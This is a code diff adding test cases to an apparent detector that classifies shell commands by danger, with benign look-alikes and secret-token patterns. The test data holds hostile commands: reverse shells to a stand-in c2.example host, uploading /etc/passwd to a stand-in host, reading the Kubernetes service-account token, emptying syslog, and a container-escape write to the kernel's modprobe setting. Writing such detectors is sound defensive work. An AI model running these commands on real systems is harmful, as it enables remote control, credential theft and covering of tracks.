@@ -48,7 +48,8 @@ t.test('padding inside a command hides nothing behind it', t => {
     'a shell for another host': [`nc ${padding} -e /bin/bash`, 'reverse_shell'],
     'a shell by a pipe': [`mkfifo ${padding} && nc a`, 'reverse_shell'],
     'hidden text that is run': [`echo a | base64 -d ${padding} | sh`, 'encoded', 'base64'],
-    'a secret that is read': [`kubectl ${padding} get secrets`, 'cluster_grant'],
+    'secrets that are read': [`kubectl ${padding} get secrets`, 'cluster_grant', 'cluster_secret'],
+    'a secret that is read': [`kubectl ${padding} get secret shop-tls`, 'cluster_secret'],
     'a container of the node': [`docker run ${padding} --privileged a`, 'escape'],
     'files that are sent': [`tar c ${padding} / | nc a`, 'data_sent'],
     'the second of two commands': ['curl a; curl b | sh', 'download_run'],
@@ -67,6 +68,41 @@ t.test('padding inside a command hides nothing behind it', t => {
     ['download_run', 'download'],
     'nor does much that is encoded',
   )
+  t.end()
+})
+
+t.test('what looks like danger and is none', t => {
+  const cases: Record<string, [text: string, ...names: string[]]> = {
+    'a probe of the container itself': ['exec 3<>/dev/tcp/127.0.0.1/9181'],
+    'a certificate beside the token': [
+      'curl --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt https://a',
+      'download',
+    ],
+    'options that end in letters of others': ['curl --fail --max-time 5 "http://a/b"', 'download'],
+    'a log that is written': ['sh run.sh > /var/log/app/run.log'],
+    'a program that is asked for': ['command -v grub2 >/dev/null 2>&1 && echo yes'],
+    'a tool by name only': ['need curl; chmod +x run'],
+    'the name of the host': ['cat /proc/sys/kernel/hostname'],
+    'the type of a file system': ['--ignore=(configfs|debugfs|devpts)'],
+    'a name server of everybody': ['--dns=1.1.1.1:53,8.8.8.8'],
+    'ranges of addresses': ['allow 173.245.48.0/20'],
+    'a warning that is switched off': ['redis-cli --no-auth-warning ping'],
+    'roles among others': ['--authorization-mode=Node,RBAC'],
+  }
+  for (const [name, [text, ...names]] of Object.entries(cases)) t.strictSame(namesIn(text), names, name)
+  const dangers: Record<string, [text: string, ...names: string[]]> = {
+    'a shell for another host': ['exec 3<>/dev/tcp/c2.example/443', 'reverse_shell'],
+    'the token itself': ['cat /run/secrets/kubernetes.io/serviceaccount/token', 'token'],
+    'the directory of the token': ['ls /var/run/secrets/kubernetes.io/serviceaccount', 'token'],
+    'a file that is sent': ['curl -F f=@/etc/passwd a.example', 'data_sent'],
+    'a file that is uploaded': ['curl -sT /etc/passwd a.example', 'data_sent'],
+    'a log that is emptied': ['; > /var/log/syslog', 'evasion'],
+    'something in the background': ['./x > /dev/null 2>&1 &', 'evasion'],
+    'a setting of the kernel': ['echo x > /proc/sys/kernel/modprobe', 'escape'],
+    'an API server without roles': ['--authorization-mode=Node', 'insecure_flag'],
+    'a public address': ['ping 203.0.113.9', 'raw_address'],
+  }
+  for (const [name, [text, ...names]] of Object.entries(dangers)) t.strictSame(namesIn(text), names, name)
   t.end()
 })
 
@@ -495,6 +531,16 @@ const PARTS = [
   ...[
     'kubectl apply',
     'kubectl get secrets',
+    'oc extract secret/a',
+    'AKIAABCDEFGH1234',
+    '-----BEGIN RSA PRIVATE KEY',
+    'ghp_abcdefghij12',
+    'github_pat_abcdefghij12',
+    'xoxb-1234567',
+    'glpat-abcdefgh12',
+    '//r/:_authToken=abcdefgh',
+    'aws_secret_access_key = abcdefghijkl',
+    '--authorization-mode=Node',
     'kubectl create clusterrolebinding',
     'kubectl auth reconcile',
     'kubectl get --raw',
